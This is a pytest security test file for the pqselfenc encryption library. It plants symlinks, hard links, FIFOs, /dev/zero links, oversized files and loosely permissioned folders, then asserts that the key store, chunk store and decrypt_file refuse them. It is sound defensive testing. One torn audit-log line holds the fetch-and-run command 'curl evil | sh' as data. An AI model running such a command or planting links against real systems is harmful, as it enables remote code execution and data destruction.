"""Hostile files in the folders pqselfenc owns: planted links, hard links, FIFOs, devices, files
larger than any writer makes, and folders others can write to.

Every test attacks from outside, through a public entry point (``KeyStore``,
``DirectoryChunkStore``, ``decrypt_file``); the guarantees come from ``core/_durable.py`` and are
written in threat-model/README.md, threat-model/keys.md and docs/stores.md. A test that could hang
(a FIFO) or exhaust memory (/dev/zero, a huge file) on a broken build runs in a child process
with a timeout and an address-space limit, so a regression fails here instead of stalling.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from pqselfenc import ChunkInfo, DirectoryChunkStore, EncryptionConfig, SelfEncryptor
from pqselfenc.core import _primitives as P
from pqselfenc.error import ChunkStoreError, EncryptionError, Error, KeyStoreError
from pqselfenc.keys import KeyConfig, KeyStore
from pqselfenc.streaming import decrypt_file

PASSPHRASE = "gravel orbit candle mosaic tundra"
SECRET_TEXT = b"four years of thesis\n"


def open_keys(path: Path) -> KeyStore:
    return KeyStore.open(path, config=KeyConfig(), passphrase=PASSPHRASE)


def run_child(code: str, *args: str, timeout: float = 30, memory: int = 1536 << 20) -> str:
    """Run ``code`` in a child with ``memory`` bytes of address space; its stdout. A child that
    does not finish within ``timeout`` seconds fails the test (it hangs)."""
    limit = f"import resource\nresource.setrlimit(resource.RLIMIT_AS, ({memory}, {memory}))\n"
    try:
        proc = subprocess.run(
            [sys.executable, "-c", limit + textwrap.dedent(code), *args],
            capture_output=True, text=True, timeout=timeout, check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        pytest.fail(f"the child still runs after {timeout} s: it hangs")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return proc.stdout


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "thesis.tex"
    path.write_bytes(SECRET_TEXT)
    return path


# -- key store: links and hard links under its names ------------------------------------------


@pytest.fixture
def destroyed(tmp_path: Path) -> Path:
    """A file-backend store where alice v1 is destroyed (its secret file gone)."""
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.rotate("alice")
    ks.destroy("alice", 1)
    ks.close()
    secret = tmp_path / "ks" / "secrets" / "alice.v1.key"
    assert not os.path.lexists(secret)
    return secret


def test_a_link_under_a_destroyed_secret_is_unlinked_never_wiped(
    destroyed: Path, victim: Path
) -> None:
    destroyed.symlink_to(victim)  # every open re-wipes destroyed versions
    open_keys(destroyed.parent.parent).close()
    assert victim.read_bytes() == SECRET_TEXT
    assert not os.path.lexists(destroyed)


def test_a_hard_link_under_a_destroyed_secret_is_unlinked_never_wiped(
    destroyed: Path, victim: Path
) -> None:
    os.link(victim, destroyed)
    open_keys(destroyed.parent.parent).close()
    assert victim.read_bytes() == SECRET_TEXT
    assert not os.path.lexists(destroyed) and victim.stat().st_nlink == 1


def test_a_secret_of_ours_alone_is_still_overwritten_before_unlink(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.rotate("alice")
    secret = tmp_path / "ks" / "secrets" / "alice.v1.key"
    keep = os.open(secret, os.O_RDONLY)  # sees the inode's bytes after the unlink
    try:
        size = os.fstat(keep).st_size
        ks.destroy("alice", 1)
        assert os.pread(keep, size, 0) == bytes(size)
    finally:
        os.close(keep)
    assert not secret.exists()


def test_torn_tail_recovery_never_appends_through_a_planted_link(
    tmp_path: Path, victim: Path
) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.close()
    with open(tmp_path / "ks" / "audit.jsonl", "ab") as log:
        log.write(b'{"seq": 99, "action": "curl evil | sh"')  # a torn last line
    (tmp_path / "ks" / "audit.jsonl.torn").symlink_to(victim)
    with pytest.raises(Error, match=r"audit\.jsonl\.torn.*symbolic link"):
        open_keys(tmp_path / "ks")
    assert victim.read_bytes() == SECRET_TEXT


def test_torn_tail_recovery_still_moves_the_tail_aside(tmp_path: Path) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.close()
    with open(tmp_path / "ks" / "audit.jsonl", "ab") as log:
        log.write(b'{"seq": 99, "torn')
    ks = open_keys(tmp_path / "ks")
    assert ks.audit.verify().ok
    assert (tmp_path / "ks" / "audit.jsonl.torn").read_bytes() == b'{"seq": 99, "torn\n'


def test_a_torn_tail_longer_than_a_line_is_left_for_a_person(tmp_path: Path) -> None:
    open_keys(tmp_path / "ks").close()
    log = tmp_path / "ks" / "audit.jsonl"
    with open(log, "ab") as fh:
        fh.write(b"x" * (P.MAX_AUDIT_LINE_SIZE + 70_000))  # no crash leaves this much
    before = log.read_bytes()
    with pytest.raises(Error, match="longer than one line"):
        open_keys(tmp_path / "ks")
    assert log.read_bytes() == before
    assert not (tmp_path / "ks" / "audit.jsonl.torn").exists()


def test_a_key_file_larger_than_any_key_is_refused_unread(tmp_path: Path) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.close()
    with open(tmp_path / "ks" / "secrets" / "alice.v1.key", "r+b") as fh:
        fh.truncate(P.MAX_SECRET_FILE_SIZE + 1)
    ks = open_keys(tmp_path / "ks")
    with pytest.raises(KeyStoreError, match=f"larger than {P.MAX_SECRET_FILE_SIZE} bytes"):
        ks.signing_key("alice")


def test_the_lock_file_is_never_truncated_through_a_link(tmp_path: Path, victim: Path) -> None:
    """filelock >= 3.20.1 opens keystore.lock with O_NOFOLLOW (CVE-2025-68146): a guard on the
    dependency floor in pyproject.toml; older filelock truncated the link's target."""
    open_keys(tmp_path / "ks").close()
    lock = tmp_path / "ks" / "keystore.lock"
    lock.unlink(missing_ok=True)
    lock.symlink_to(victim)
    with pytest.raises((OSError, Error)):
        open_keys(tmp_path / "ks")
    assert victim.read_bytes() == SECRET_TEXT


# -- key store: who may write its folder ------------------------------------------------------


@pytest.mark.parametrize("mode", [0o770, 0o720, 0o1777, 0o702])
def test_a_key_store_folder_others_can_write_is_refused(tmp_path: Path, mode: int) -> None:
    open_keys(tmp_path / "ks").close()
    (tmp_path / "ks").chmod(mode)
    with pytest.raises(KeyStoreError) as caught:
        open_keys(tmp_path / "ks")
    assert str(tmp_path / "ks") in str(caught.value)
    assert "chmod 700" in str(caught.value)
    (tmp_path / "ks").chmod(0o700)
    open_keys(tmp_path / "ks").close()  # fixed as the message says: opens again


def test_a_group_writable_secrets_folder_is_refused(tmp_path: Path) -> None:
    open_keys(tmp_path / "ks").close()
    (tmp_path / "ks" / "secrets").chmod(0o770)
    with pytest.raises(KeyStoreError, match=r"secrets.*chmod 700"):
        open_keys(tmp_path / "ks")


def test_a_secrets_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
    open_keys(tmp_path / "ks").close()
    secrets = tmp_path / "ks" / "secrets"
    secrets.rename(tmp_path / "elsewhere")
    secrets.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(KeyStoreError, match="symbolic link"):
        open_keys(tmp_path / "ks")


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_a_key_store_folder_owned_by_someone_else_is_refused(tmp_path: Path) -> None:
    open_keys(tmp_path / "ks").close()
    os.chown(tmp_path / "ks", 54321, -1)
    with pytest.raises(KeyStoreError, match=r"uid 54321"):
        open_keys(tmp_path / "ks")


# -- key store: FIFOs and devices under its names ---------------------------------------------

OPEN_KEYS = """
import sys
from pqselfenc.error import Error
from pqselfenc.keys import KeyConfig, KeyStore
try:
    print(KeyStore.open(sys.argv[1], config=KeyConfig(), passphrase=sys.argv[2]).audit.verify())
except Error as exc:
    print(type(exc).__name__, exc)
"""


@pytest.mark.parametrize("name", ["keystore.json", "vault.key", "audit.jsonl", "audit.checkpoint"])
def test_a_fifo_under_a_key_store_name_fails_promptly(tmp_path: Path, name: str) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.close()
    (tmp_path / "ks" / name).unlink()
    os.mkfifo(tmp_path / "ks" / name)
    out = run_child(OPEN_KEYS, str(tmp_path / "ks"), PASSPHRASE, timeout=20)
    assert "FIFO" in out and name in out, out


def test_a_secret_linked_to_dev_zero_is_refused_without_reading(tmp_path: Path) -> None:
    ks = open_keys(tmp_path / "ks")
    ks.generate("alice")
    ks.close()
    secret = tmp_path / "ks" / "secrets" / "alice.v1.key"
    secret.unlink()
    secret.symlink_to("/dev/zero")
    code = """
    import sys
    from pqselfenc.error import KeyStoreError
    from pqselfenc.keys import KeyConfig, KeyStore
    ks = KeyStore.open(sys.argv[1], config=KeyConfig(), passphrase=sys.argv[2])
    try:
        ks.signing_key("alice")
    except KeyStoreError as exc:
        print(exc)
    """
    assert "symbolic link" in run_child(code, str(tmp_path / "ks"), PASSPHRASE)


# -- directory chunk store --------------------------------------------------------------------


@pytest.fixture
def chunks(tmp_path: Path) -> tuple[DirectoryChunkStore, ChunkInfo, bytes]:
    store = DirectoryChunkStore(tmp_path / "chunks", fsync=False)
    content = os.urandom(5000)
    return store, store.store(content), content


def test_a_chunk_that_is_a_link_is_not_followed(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes], tmp_path: Path
) -> None:
    store, info, content = chunks
    path = store.path_of(info)
    copy = tmp_path / "copy"
    path.rename(copy)  # the right bytes, but only reachable through a link
    path.symlink_to(copy)
    assert copy.read_bytes() == content
    with pytest.raises(ChunkStoreError, match="symbolic link"):
        store.retrieve(info)
    assert not store.has(info)


def test_a_chunk_linked_to_dev_zero_is_a_store_error_not_memory_error(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes],
) -> None:
    store, info, _ = chunks
    store.path_of(info).unlink()
    store.path_of(info).symlink_to("/dev/zero")
    code = """
    import sys
    from pqselfenc import ChunkInfo, DirectoryChunkStore
    from pqselfenc.error import ChunkStoreError
    try:
        DirectoryChunkStore(sys.argv[1]).retrieve(ChunkInfo(name=bytes.fromhex(sys.argv[2])))
    except ChunkStoreError as exc:
        print(exc)
    """
    out = run_child(code, str(store.root), info.hex_name)
    assert "symbolic link" in out and info.hex_name not in out


def test_a_fifo_chunk_is_refused_promptly(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes],
) -> None:
    store, info, _ = chunks
    store.path_of(info).unlink()
    os.mkfifo(store.path_of(info))
    code = """
    import sys
    from pqselfenc import ChunkInfo, DirectoryChunkStore
    from pqselfenc.error import ChunkStoreError
    try:
        DirectoryChunkStore(sys.argv[1]).retrieve(ChunkInfo(name=bytes.fromhex(sys.argv[2])))
    except ChunkStoreError as exc:
        print(exc)
    """
    assert "FIFO" in run_child(code, str(store.root), info.hex_name, timeout=20)


def test_a_chunk_larger_than_any_writer_makes_is_refused_unread(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes],
) -> None:
    store, info, _ = chunks
    with open(store.path_of(info), "r+b") as fh:
        fh.truncate(P.MAX_STORED_CHUNK_SIZE + 1)  # sparse: no disk, 1 GiB to whoever reads it
    code = """
    import sys
    from pqselfenc import ChunkInfo, DirectoryChunkStore
    from pqselfenc.error import IntegrityError
    try:
        DirectoryChunkStore(sys.argv[1]).retrieve(ChunkInfo(name=bytes.fromhex(sys.argv[2])))
    except IntegrityError as exc:
        print(exc)
    """
    assert "larger than" in run_child(code, str(store.root), info.hex_name, memory=768 << 20)


@pytest.fixture
def linked_shard(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes], tmp_path: Path
) -> tuple[DirectoryChunkStore, Path, ChunkInfo]:
    """A chunk's shard folder replaced by a link to someone's folder holding files of the same
    names (the chunk itself, and a file that looks like a temp file)."""
    store, info, _ = chunks
    shard = store.path_of(info).parent
    elsewhere = tmp_path / "someone"
    shard.rename(elsewhere)
    (elsewhere / ".tmp-notes").write_bytes(SECRET_TEXT)
    shard.symlink_to(elsewhere)
    return store, elsewhere, info


def test_delete_and_clean_never_reach_through_a_linked_shard(
    linked_shard: tuple[DirectoryChunkStore, Path, ChunkInfo],
) -> None:
    store, elsewhere, info = linked_shard
    before = sorted(p.name for p in elsewhere.iterdir())
    with pytest.raises(ChunkStoreError, match="symbolic link"):
        store.delete(info)
    assert store.clean_temp() == 0
    assert sorted(p.name for p in elsewhere.iterdir()) == before
    assert (elsewhere / ".tmp-notes").read_bytes() == SECRET_TEXT


def test_writes_and_listing_never_reach_through_a_linked_shard(
    linked_shard: tuple[DirectoryChunkStore, Path, ChunkInfo],
) -> None:
    store, elsewhere, info = linked_shard
    before = sorted(p.name for p in elsewhere.iterdir())
    assert list(store) == []  # the linked folder is not part of the store
    sibling = next(
        c for c in (os.urandom(100) for _ in range(5000))
        if ChunkInfo.for_chunk(c).hex_name[:2] == info.hex_name[:2]
    )  # fmt: skip
    with pytest.raises(ChunkStoreError, match="symbolic link"):
        store.store(sibling)
    assert sorted(p.name for p in elsewhere.iterdir()) == before


def test_a_link_under_a_chunk_name_is_replaced_by_the_real_chunk(
    chunks: tuple[DirectoryChunkStore, ChunkInfo, bytes], victim: Path
) -> None:
    store, info, content = chunks
    path = store.path_of(info)
    path.unlink()
    path.symlink_to(victim)
    assert store.store(content) == info  # not "already there": a link is not a chunk
    assert stat.S_ISREG(path.lstat().st_mode) and store.retrieve(info) == content
    assert victim.read_bytes() == SECRET_TEXT


# -- decrypt_file -----------------------------------------------------------------------------


def test_decrypt_file_makes_the_new_name_durable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store = DirectoryChunkStore(tmp_path / "chunks", fsync=False)
    data = os.urandom(3000)
    data_map, _ = SelfEncryptor(
        data, EncryptionConfig(chunk_size=1000), chunk_store=store
    ).encrypt()
    synced: list[str] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        real_fsync(fd)
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            synced.append(os.readlink(f"/proc/self/fd/{fd}"))

    monkeypatch.setattr(os, "fsync", fsync)
    decrypt_file(data_map, store, tmp_path / "out.bin")
    assert (tmp_path / "out.bin").read_bytes() == data
    assert str(tmp_path) in synced


def test_decrypt_file_never_replaces_a_fifo(tmp_path: Path) -> None:
    store = DirectoryChunkStore(tmp_path / "chunks", fsync=False)
    data_map, _ = SelfEncryptor(os.urandom(3000), chunk_store=store).encrypt()
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(EncryptionError, match="FIFO"):
        decrypt_file(data_map, store, tmp_path / "pipe")
    assert stat.S_ISFIFO((tmp_path / "pipe").lstat().st_mode)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
